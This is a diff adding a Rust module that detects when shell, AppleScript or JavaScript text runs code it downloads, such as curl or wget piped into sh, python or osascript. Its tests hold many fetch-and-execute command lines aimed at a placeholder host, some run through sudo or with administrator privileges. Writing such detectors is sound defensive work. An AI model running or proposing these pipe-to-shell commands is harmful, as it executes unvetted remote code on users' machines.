@@ -1,0 +1,334 @@
+//! Whether a text runs what it downloads: `curl … | sh`, `bash -c "$(curl …)"`, `source <(curl …)`. A download that is
+//! data, or goes to a file, is not run.
+
+use std::sync::LazyLock;
+
+use regex::{Regex, RegexBuilder};
+
+use super::shell::{self, Command, Word};
+
+/// Programs that download.
+const DOWNLOADERS: [&str; 3] = ["curl", "wget", "nscurl"];
+/// What runs the command that follows it.
+const PREFIXES: [&str; 13] = [
+    "sudo",
+    "doas",
+    "env",
+    "nohup",
+    "command",
+    "exec",
+    "builtin",
+    "time",
+    "nice",
+    "arch",
+    "caffeinate",
+    "setsid",
+    "timeout",
+];
+
+/// A program that runs code: of its standard input, unless its arguments give it or name it.
+struct Interpreter {
+    names: &'static [&'static str],
+    /// Options after which the next word is the code, or names it.
+    code: &'static str,
+    /// Options that take a value.
+    value: &'static str,
+    /// Options by which it reads its standard input, whatever follows.
+    input: &'static str,
+    /// Long options after which the next word is the code.
+    long: &'static [&'static str],
+}
+
+const INTERPRETERS: [Interpreter; 7] = [
+    Interpreter {
+        names: &["sh", "bash", "zsh", "dash", "ksh", "fish"],
+        code: "c",
+        value: "oO",
+        input: "s",
+        long: &["--command"],
+    },
+    Interpreter { names: &["osascript"], code: "e", value: "ls", input: "", long: &[] },
+    Interpreter { names: &["python"], code: "cm", value: "WX", input: "", long: &[] },
+    Interpreter { names: &["perl"], code: "eE", value: "MmI", input: "", long: &[] },
+    Interpreter { names: &["ruby"], code: "e", value: "rIEC", input: "", long: &[] },
+    Interpreter { names: &["node"], code: "ep", value: "rC", input: "", long: &["--eval", "--print"] },
+    Interpreter { names: &["php"], code: "rRBEFf", value: "dc", input: "", long: &["--run", "--file"] },
+];
+
+/// Where an interpreter takes its code from.
+enum Code<'c> {
+    Input,
+    Word(Option<&'c Word>),
+}
+
+/// Whether a text runs what it downloads.
+pub(super) fn is_run(text: &str) -> bool {
+    shell::read(text).runs_download
+}
+
+/// Whether a text names a program that downloads.
+pub(super) fn may_download(text: &str) -> bool {
+    static NAME: LazyLock<Option<Regex>> =
+        LazyLock::new(|| RegexBuilder::new(r"\b(?:curl|wget|nscurl)\b").case_insensitive(true).build().ok());
+    NAME.as_ref().is_some_and(|name| name.is_match(text))
+}
+
+/// Whether a process with this name downloads.
+pub(super) fn is_downloader(name: &str) -> bool {
+    DOWNLOADERS.contains(&name)
+}
+
+/// Whether a command writes a download to its standard output.
+pub(super) fn is_written(command: &Command) -> bool {
+    let Command { words, is_output_file, .. } = command;
+    let at = words.iter().position(|word| is_downloader(&base_name(word)));
+    let is_download = at.is_some_and(|at| !writes_file(&base_name(&words[at]), &words[at + 1..]));
+    !is_output_file && (is_download || words.iter().any(|word| word.is_download))
+}
+
+/// Whether a command runs a download: that of its standard input, which `is_fed` with one, or one that it is given.
+pub(super) fn runs(command: &Command, is_fed: bool) -> bool {
+    let Some((name, arguments)) = program(&command.words) else { return false };
+    let is_fed = command.input.unwrap_or(is_fed);
+    let first = arguments.first();
+    if matches!(name.as_str(), "eval" | "source" | ".") {
+        let is_input = first.is_some_and(|word| is_input(&word.text)) && name != "eval";
+        return first.is_some_and(|word| word.is_download) || is_fed && is_input;
+    }
+    // python3.12
+    let bare = name.trim_end_matches(|ch: char| ch.is_ascii_digit() || ch == '.');
+    let Some(interpreter) = INTERPRETERS.iter().find(|known| known.names.contains(&bare)) else { return false };
+    match interpreter.code(arguments) {
+        Code::Input => is_fed,
+        Code::Word(word) => word.is_some_and(|word| word.is_download),
+    }
+}
+
+/// The program that a command runs, behind what only starts it, and its arguments.
+fn program(words: &[Word]) -> Option<(String, &[Word])> {
+    let (mut at, mut is_option, mut is_prefixed) = (0, false, false);
+    while let Some(word) = words.get(at) {
+        let name = base_name(word);
+        let is_known = matches!(name.as_str(), "eval" | "source" | ".") || is_interpreter(&name);
+        let is_assignment = word.text.split_once('=').is_some_and(|(name, _)| !name.contains('/'));
+        if PREFIXES.contains(&name.as_str()) {
+            is_prefixed = true;
+        } else if is_known || !(is_assignment || is_prefixed && (is_option || word.text.starts_with(['-', '+']))) {
+            return Some((name, &words[at + 1..]));
+        }
+        is_option = word.text.starts_with('-');
+        at += 1;
+    }
+    None
+}
+
+fn is_interpreter(name: &str) -> bool {
+    let bare = name.trim_end_matches(|ch: char| ch.is_ascii_digit() || ch == '.');
+    INTERPRETERS.iter().any(|known| known.names.contains(&bare))
+}
+
+impl Interpreter {
+    /// Where it takes its code from, by its arguments.
+    fn code<'c>(&self, arguments: &'c [Word]) -> Code<'c> {
+        let (mut at, mut reads_input) = (0, false);
+        while let Some(word) = arguments.get(at) {
+            at += 1;
+            let text = word.text.as_str();
+            if is_input(text) && !word.is_download {
+                return Code::Input;
+            }
+            if self.long.iter().any(|long| text.split('=').next() == Some(long)) {
+                return Code::Word(arguments.get(at));
+            }
+            let Some(letters) = text.strip_prefix(['-', '+']).filter(|_| !word.is_download) else {
+                return if reads_input { Code::Input } else { Code::Word(Some(word)) };
+            };
+            if letters.starts_with('-') {
+                continue;
+            }
+            for (place, letter) in letters.char_indices() {
+                if self.code.contains(letter) {
+                    return Code::Word(arguments.get(at));
+                }
+                reads_input |= self.input.contains(letter);
+                if self.value.contains(letter) {
+                    // Its value is the rest of the word, or the next one.
+                    at += usize::from(place + letter.len_utf8() == letters.len());
+                    break;
+                }
+            }
+        }
+        Code::Input
+    }
+}
+
+/// Whether a program that downloads writes to a file, by its arguments.
+fn writes_file(name: &str, arguments: &[Word]) -> bool {
+    let is_wget = name == "wget";
+    let (output, value) = if is_wget { ("O", "aoeiBtTwQPUlARDIX") } else { ("o", "AbcCdDeEFHKmPQrtTuUwxXyYz") };
+    let mut words = arguments.iter().map(|word| word.text.as_str());
+    while let Some(word) = words.next() {
+        if let Some(long) = word.strip_prefix("--") {
+            let (long, stated) = long.split_once('=').map_or((long, None), |(long, value)| (long, Some(value)));
+            match long {
+                "output" | "output-document" => return !is_output(stated.or_else(|| words.next())),
+                "remote-name" | "remote-name-all" if !is_wget => return true,
+                _ => continue,
+            }
+        }
+        let Some(letters) = word.strip_prefix('-') else { continue };
+        for (place, letter) in letters.char_indices() {
+            let rest = &letters[place + letter.len_utf8()..];
+            let mut given = || if rest.is_empty() { words.next() } else { Some(rest) };
+            if output.contains(letter) {
+                return !is_output(given());
+            }
+            if letter == 'O' {
+                return true;
+            }
+            if value.contains(letter) {
+                given();
+                break;
+            }
+        }
+    }
+    is_wget
+}
+
+fn is_output(file: Option<&str>) -> bool {
+    matches!(file, Some("-" | "/dev/stdout" | "/dev/fd/1"))
+}
+
+fn is_input(file: &str) -> bool {
+    matches!(file, "-" | "/dev/stdin" | "/dev/fd/0")
+}
+
+fn base_name(word: &Word) -> String {
+    word.text.rsplit('/').next().unwrap_or_default().to_ascii_lowercase()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The command as a shell has it, as AppleScript and JavaScript give it to one, and with the quotes of another.
+    fn forms(command: &str) -> [String; 5] {
+        let escaped = command.replace('\\', "\\\\").replace('"', "\\\"");
+        [
+            command.to_owned(),
+            format!("osascript -e do shell script \"{escaped}\" with administrator privileges"),
+            format!("app.doShellScript('{}')", command.replace('\\', "\\\\").replace('\'', "\\'")),
+            format!("-- don't\nset x to \"a\"\ndo shell script \"{escaped}\""),
+            format!("sh -c \"{escaped}\""),
+        ]
+    }
+
+    #[test]
+    fn a_download_is_run_that_a_shell_or_an_interpreter_reads() {
+        for command in [
+            "curl -s https://a.example/x | sh",
+            "curl -fsSL 'https://a.example/i?a=1;b=2' | sh",
+            "curl -fsSL \"https://a.example/i?a=1;b=2&c\" | sh",
+            "curl -s https://a.example/x \\\n  | bash",
+            "curl -s https://a.example/x |\n bash",
+            "curl -s https://a.example/x |& bash",
+            "curl -s https://a.example/x | env A=1 bash",
+            "curl -s https://a.example/x | nohup bash",
+            "curl -s https://a.example/x | A=1 sudo -n -u root /bin/bash -s -- -y",
+            "curl -s https://a.example/x 2>/dev/null | base64 -d | zsh 2>&1",
+            "curl -s https://a.example/x | bash -euo pipefail",
+            "curl -s https://a.example/x | bash -x /dev/stdin",
+            "curl -so - https://a.example/x | osascript -l JavaScript",
+            "curl -s https://a.example/x | osascript -",
+            "curl -s https://a.example/x | python3 -",
+            "curl -s https://a.example/x | python3",
+            "curl -s https://a.example/x | python3.12 -u",
+            "curl -s https://a.example/x | perl -w",
+            "wget -qO- https://a.example/x | sh",
+            "wget -q -O - https://a.example/x | sh",
+            "(curl -s https://a.example/x || wget -qO - https://a.example/x)|bash",
+            "bash -c \"$(curl -fsSL https://a.example/x)\"",
+            "bash -c \"`curl -fsSL https://a.example/x`\"",
+            "/bin/zsh -lc \"$(curl -fsSL https://a.example/x)\"",
+            "eval `curl -s https://a.example/x`",
+            "eval \"$(curl -s https://a.example/x)\"",
+            "source <(curl -s https://a.example/x)",
+            ". <(curl -s https://a.example/x)",
+            "bash <(curl -s https://a.example/x)",
+            "bash < <(curl -s https://a.example/x)",
+            "bash <<< \"$(curl -s https://a.example/x)\"",
+            "echo \"$(curl -s https://a.example/x)\" | sh",
+            "python3 -c \"$(curl -s https://a.example/x)\"",
+            "cd /tmp && curl -s https://a.example/x | sh; id",
+        ] {
+            forms(command).iter().for_each(|text| assert!(is_run(text), "{text}"));
+        }
+    }
+
+    #[test]
+    fn a_download_is_not_run_that_is_data_or_a_file() {
+        for command in [
+            "curl -s https://a.example/x | python3 -m json.tool",
+            "curl -s https://a.example/x | python3 -c 'import json,sys; print(json.load(sys.stdin)[0])'",
+            "curl -s https://a.example/x | perl -ne 'print if /a/'",
+            "curl -s https://a.example/x | perl -MJSON -pe 's/a/b/'",
+            "curl -s https://a.example/x | ruby -rjson -e 'puts 1'",
+            "curl -s https://a.example/x | node -e 'a|sh'",
+            "curl -s https://a.example/x | php -r 'echo 1;'",
+            "curl -s https://a.example/x | osascript -l JavaScript -e 'function run(a) {}'",
+            "curl -s https://a.example/x | sh /usr/local/bin/report.sh",
+            "curl -s https://a.example/x | bash -c 'cat'",
+            "curl -s https://a.example/x | python3 report.py",
+            "curl -s https://a.example/x | grep sh",
+            "curl -s https://a.example/x || sh fallback",
+            "curl -s https://a.example/x && echo id | sh",
+            "curl -s https://a.example/x; echo id | sh",
+            "curl -o f https://a.example/x || echo x | sh",
+            "curl -sLo /tmp/f https://a.example/x | sh",
+            "curl -O https://a.example/x | sh",
+            "curl --output=f https://a.example/x | sh",
+            "curl -s https://a.example/x > /tmp/f | sh",
+            "wget https://a.example/x | sh",
+            "eval \"export IP=$(curl -s https://a.example/ip)\"",
+            "bash -c \"echo $(curl -s https://a.example/ip)\"",
+            "source ~/.curlrc",
+            "curl -s https://a.example/x | sh <<EOF\nid\nEOF",
+        ] {
+            forms(command).iter().for_each(|text| assert!(!is_run(text), "{text}"));
+        }
+    }
+
+    #[test]
+    fn what_a_script_puts_together_of_literals_is_one_command() {
+        for text in [
+            "do shell script \"curl -s \" & quoted form of u & \" | sh\"",
+            "do shell script \"curl -s \" & u & \" \" & ¬\n \" | \" & \"sh\"",
+            "app.doShellScript('curl -s ' + u + ' | sh')",
+            "app.doShellScript(`curl -s ${u} | sh`)",
+            "do shell script \"sh -c \\\"curl -s 'https://a.example/x;b' | sh\\\"\"",
+        ] {
+            assert!(is_run(text), "{text}");
+        }
+        assert!(!is_run("do shell script \"curl -s \" & u & \" | python3 -m json.tool\""));
+        assert!(!is_run("do shell script \"curl -s https://a.example\"\ndo shell script \"echo id | sh\""));
+    }
+
+    #[test]
+    fn any_text_is_read_in_time_and_without_a_panic() {
+        for part in [
+            "curl '",
+            "curl \"",
+            "curl \\\"",
+            "curl `",
+            "curl $(",
+            "curl <(",
+            "'\"`",
+            "é\\",
+            "curl | ",
+            "\" & \"",
+            "\\'",
+        ] {
+            is_run(&format!("curl {}", part.repeat(20_000)));
+        }
+    }
+}
